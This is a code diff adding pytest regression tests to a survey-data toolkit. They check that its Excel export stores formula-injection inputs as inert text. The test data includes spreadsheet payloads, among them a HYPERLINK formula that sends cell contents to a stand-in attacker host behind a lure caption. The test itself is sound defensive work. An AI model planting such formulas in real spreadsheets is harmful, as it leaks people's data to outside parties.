@@ -277,3 +277,46 @@ def test_readers_need_a_codebook_or_a_study(tmp_path, codebook, registry):
         read_kobo(p)
     with pytest.raises(evalkit.CodebookError, match="to_wjx_excel"):
         to_wjx_excel(pd.DataFrame({"age": [1]}), tmp_path / "x.xlsx")
+
+
+# --- formula injection (issue 16) -------------------------------------------------------------------
+HOSTILE = ['=HYPERLINK("http://x", "y")', "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1",
+           '=HYPERLINK("http://evil.example/?"&D3&D4, "点击查看详情")']
+
+
+def test_wjx_excel_writes_hostile_ids_and_answers_as_text_not_formulas(tmp_path, codebook):
+    # before the fix openpyxl stored '=HYPERLINK(...)' (and '\t=1' once stripped to '=1') as a
+    # live formula (cell.data_type == "f"); now every cell is a value and reads back unchanged
+    import openpyxl
+
+    n = len(HOSTILE)
+    df = pd.DataFrame({"respondent_id": HOSTILE, "household_id": HOSTILE[::-1], "community_id": HOSTILE,
+                       "age_group": HOSTILE[::-1], "who5_1": [3] * n})
+    p = to_wjx_excel(df, tmp_path / "hostile.xlsx", codebook)
+    ws = openpyxl.load_workbook(p).active
+    cells = [c for row in ws.iter_rows() for c in row]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    header = [c.value for c in next(ws.iter_rows(max_row=1))]
+    col = {h.split("、", 1)[-1]: i for i, h in enumerate(header)}
+    got = [r[col[codebook.variables["respondent_id"].label.zh]] for r in ws.iter_rows(min_row=2, values_only=True)]
+    assert got == [h.strip() for h in HOSTILE]  # written as given (to_wjx_excel strips blanks)
+    # and evalkit's own reader returns the same strings
+    back = read_wjx(p, codebook=codebook)
+    assert back["respondent_id"].astype(str).tolist() == [h.strip() for h in HOSTILE]
+    assert back["community_id"].astype(str).tolist() == [h.strip() for h in HOSTILE]
+
+
+def test_wjx_excel_bytes_unchanged_when_nothing_is_formula_like(tmp_path, codebook):
+    # the text-cell pass changes nothing for ordinary tables: same bytes as pandas' own writer
+    # (the digest of the shipped export in data/MANIFEST.sha256 stays valid)
+    import io
+    import zipfile
+
+    df = pd.DataFrame({"respondent_id": ["a-1", "a-2"], "who5_1": [3, 5], "community_id": ["anning", "anning"]})
+    p = to_wjx_excel(df, tmp_path / "plain.xlsx", codebook)
+    frame = pd.read_excel(p, dtype=object)
+    buf = io.BytesIO()
+    frame.to_excel(buf, index=False, engine="openpyxl")
+    with zipfile.ZipFile(buf) as ref, zipfile.ZipFile(p) as got:
+        sheet = "xl/worksheets/sheet1.xml"
+        assert got.read(sheet) == ref.read(sheet)
